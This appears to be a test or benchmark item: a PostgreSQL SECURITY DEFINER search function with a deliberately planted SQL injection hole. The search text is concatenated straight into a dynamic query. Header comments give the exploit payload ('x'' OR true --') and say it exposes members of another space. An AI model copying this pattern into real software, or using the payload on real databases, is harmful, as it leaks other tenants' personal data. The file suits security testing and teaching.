-- The search text is put into the statement as it is, so a quote in it ends the filter on the space.
-- about: search_members, members
-- as: hf_deskhive_app
-- exploit: SET desk.space = 'hub';
-- exploit: SELECT * FROM desk.search_members('x'' OR true --');
-- shows: Road-secret member
CREATE FUNCTION desk.search_members(p_text text) RETURNS TABLE (email text, full_name text)
LANGUAGE plpgsql STABLE SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS $$
BEGIN
  RETURN QUERY EXECUTE 'SELECT m.email, m.full_name FROM desk.members m WHERE m.space = '
    || quote_literal(desk.space()) || ' AND m.full_name ILIKE ''%' || p_text || '%''';
END $$;
GRANT EXECUTE ON FUNCTION desk.search_members(text) TO hf_deskhive_app;
